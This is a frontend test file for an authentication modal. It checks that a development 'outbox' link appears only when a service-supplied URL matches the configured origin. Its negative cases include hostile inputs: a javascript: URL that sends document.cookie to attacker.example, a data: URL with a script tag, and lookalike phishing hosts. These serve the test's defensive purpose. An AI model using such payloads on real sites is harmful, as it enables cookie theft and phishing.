import { render, screen } from '@testing-library/react'
import userEvent from '@testing-library/user-event'
import { describe, expect, it } from 'vitest'
import { LatchkeyProvider } from '../../react/index.ts'
import { createTestService, SERVICE_URL } from '../test/renderWithService.tsx'
import { AuthModal } from './AuthModal.tsx'

/** The code step's outbox link when `wallet_kit_config` answers `devOutboxUrl` (undefined: as the service sent it). */
async function outboxLinkFor(devOutboxUrl: string | undefined) {
  const { config } = await createTestService()
  const service = config.fetch ?? fetch
  // The answer rewritten on its way, as an impersonated service or a network attacker could.
  const answering: typeof fetch = async (input, init) => {
    const response = await service(input, init)
    const url = typeof input === 'string' ? input : input instanceof URL ? input.href : input.url
    if (devOutboxUrl === undefined || !url.endsWith('/v1/wallet_kit_config')) return response
    const body = (await response.json()) as Record<string, unknown>
    return Response.json({ ...body, devOutboxUrl }, { status: response.status })
  }
  const user = userEvent.setup()
  render(
    <LatchkeyProvider config={{ ...config, fetch: answering }}>
      <AuthModal />
    </LatchkeyProvider>,
  )
  await user.click(screen.getByRole('button', { name: 'Sign in' }))
  await user.type(await screen.findByRole('textbox', { name: 'Email address' }), 'ana@example.com{Enter}')
  await screen.findByRole('heading', { name: 'Enter the code' })
  return screen.queryByRole('link', { name: 'Development: open the outbox' })?.getAttribute('href') ?? null
}

describe("the code step's dev outbox link", () => {
  it.each([
    ["the local service's outbox (its own answer)", undefined, `${SERVICE_URL}/dev/outbox`],
    [
      'another page of the configured service',
      `${SERVICE_URL}/dev/outbox?contact=ana`,
      `${SERVICE_URL}/dev/outbox?contact=ana`,
    ],
  ])('links to %s', async (_, devOutboxUrl, href) => {
    expect(await outboxLinkFor(devOutboxUrl)).toBe(href)
  })

  // React 18 renders a javascript: href as given (React 19 swaps it for one that throws): the app's
  // origin would run it on a click. A foreign https page would be a phishing link in the kit's dialog.
  it.each([
    ['a javascript: URL', 'javascript:fetch("https://attacker.example/?"+document.cookie)'],
    ['a data: URL', 'data:text/html,<script>alert(1)</script>'],
    ['another site', 'https://attacker.example/dev/outbox'],
    ['a host that starts like the service', `${SERVICE_URL}.attacker.example/dev/outbox`],
    [
      'the service host on another port',
      `${new URL(SERVICE_URL).protocol}//${new URL(SERVICE_URL).hostname}:9/dev/outbox`,
    ],
    ['not a URL', '/dev/outbox'],
  ])('shows no link for %s in wallet_kit_config', async (_, devOutboxUrl) => {
    expect(await outboxLinkFor(devOutboxUrl)).toBeNull()
  })
})
